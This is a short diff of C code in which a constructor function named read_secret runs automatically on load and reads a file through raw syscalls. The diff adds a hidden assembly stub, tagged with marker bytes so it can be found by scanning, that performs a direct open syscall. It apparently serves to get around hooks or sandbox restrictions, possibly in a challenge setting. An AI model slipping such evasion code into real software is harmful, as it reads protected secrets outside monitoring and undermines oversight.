@@ -12,3 +12,13 @@ __attribute__((constructor)) static void read_secret(void)
 	                 : "rcx", "r11", "memory");
 	show((int)fd);
 }
+
+/* Found by its first bytes by who maps this file himself: open(path) from the first argument. */
+__asm__(".text\n"
+        ".balign 16\n"
+        "	.byte 0x48, 0x87, 0xc0, 0x48, 0x87, 0xdb\n"
+        "	xor %esi, %esi\n"
+        "	xor %edx, %edx\n"
+        "	mov $2, %eax\n"
+        "	syscall\n"
+        "	ret\n");
